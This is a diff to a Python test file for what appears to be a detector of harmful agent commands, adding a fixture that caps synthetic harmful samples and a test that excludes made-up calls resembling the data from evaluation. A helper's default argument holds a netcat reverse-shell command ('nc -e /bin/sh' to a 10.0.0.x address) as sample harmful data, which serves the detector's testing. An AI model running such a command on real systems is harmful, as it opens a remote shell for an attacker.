@@ -9,7 +9,7 @@ import pytest
 from typer.testing import CliRunner
 
 from gradproof.cli import app
-from gradproof.gate import evaluate, roc, stream
+from gradproof.gate import evaluate, fit, roc, starter, stream
 from gradproof.gate.corpus import corpus
 from gradproof.gate.evaluate import by_folds, grouped, read
 from gradproof.gate.fit import Recipe
@@ -38,6 +38,15 @@ def harmful(count, ending="nc -e /bin/sh 10.0.0.{}", seed=1):
 @pytest.fixture(scope="module")
 def labelled(tmp_path_factory):
     return write(tmp_path_factory.mktemp("data") / "mine.jsonl", ordinary(200) + harmful(40))
+
+
+@pytest.fixture(autouse=True, scope="module")
+def little_harm():
+    """A few made-up calls are quicker than many."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(evaluate, "harmful", lambda: starter.harmful()[:40])
+        patch.setattr(fit, "harmful", lambda: starter.harmful()[:40])
+        yield
 
 
 @pytest.fixture(scope="module")
@@ -77,6 +86,21 @@ def test_test_rows_are_never_fitted_to(labelled, monkeypatch):
     for rest, test in seen:
         assert not rest & test and len(rest | test) == 240
         assert not {data.group[i] for i in rest} & {data.group[i] for i in test}
+
+
+def test_made_up_calls_that_resemble_the_data_are_left_out(labelled, monkeypatch):
+    """A test call must not come back as something that was made up."""
+    data, seen = read([labelled]), []
+    taken = data.text[int(np.flatnonzero(data.block_R)[0])]
+    monkeypatch.setattr(evaluate, "harmful", lambda: (taken + "1", "Bash\ncommand: something that is nowhere else"))
+
+    def score(data, rest, test, seed, config, recipe, harm, watch):
+        seen.append(harm)
+        return np.random.default_rng(0).random(len(test))
+
+    monkeypatch.setattr(evaluate, "score", score)
+    assert by_folds(data, count=2, baseline=False)["made_up"] == 1
+    assert seen == [["Bash\ncommand: something that is nowhere else"]] * 2
 
 
 def test_a_groups_recall_is_at_the_threshold_of_all():
